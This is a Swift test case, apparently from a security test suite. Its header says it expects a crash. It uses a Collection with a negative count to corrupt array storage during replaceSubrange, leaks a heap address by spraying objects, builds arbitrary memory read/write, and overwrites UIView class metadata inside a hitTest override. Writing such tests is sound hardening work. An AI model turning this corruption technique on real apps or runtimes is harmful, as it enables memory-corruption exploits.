// Attack: replaces nothing by a collection with a negative count, so that the list's elements are moved over its own head.
// Exercise: 3
// Expect: crashed
// Held by: the kit inserts what a sequence has, and not what it claims
import UIKit

struct Owed: Collection {
    var startIndex: Int { 0 }
    var endIndex: Int { 0 }
    var count: Int { -4 }
    func index(after i: Int) -> Int { i + 1 }
    subscript(i: Int) -> Int { 0 }
}
final class Tiny {
    let mark: Int
    init(_ mark: Int) { self.mark = mark }
}
@MainActor enum Mem {
    static var list: [Int] = []
    static var tinies: [Tiny] = []
    static var base: UInt = 0
    static func begin() {
        list = [0, 3, Int.max, -2] + Array(repeating: 7, count: 36)
        for i in 0..<4_000 { tinies.append(Tiny(0x7777_0000 + i)) }
        list.replaceSubrange(0..<0, with: Owed())
        for j in 0..<200_000 {
            let i = list[j] - 0x7777_0000
            guard tinies.indices.contains(i) else { continue }
            base = UInt(bitPattern: ObjectIdentifier(tinies[i])) &+ 16 &- UInt(8 * j)
            break
        }
    }
    static subscript(a: UInt) -> Int {
        get { list[Int((a &- base) >> 3)] }
        set { list[Int((a &- base) >> 3)] = newValue }
    }
}

class BaseView: UIView {
    static let kinds = UInt(bitPattern: ObjectIdentifier(UIView.self)) &+ 0x23320
    static var old = 0
    override func hitTest(_ point: CGPoint, with event: UIEvent?) -> UIView? {
        if Mem.base == 0 { Mem.begin() }
        BaseView.old = Mem[BaseView.kinds]
        Mem[BaseView.kinds] = 0
        defer { Mem[BaseView.kinds] = BaseView.old }
        return super.hitTest(point, with: event)
    }
    override func point(inside point: CGPoint, with event: UIEvent?) -> Bool {
        Mem[BaseView.kinds] = BaseView.old
        return super.point(inside: point, with: event)
    }
}
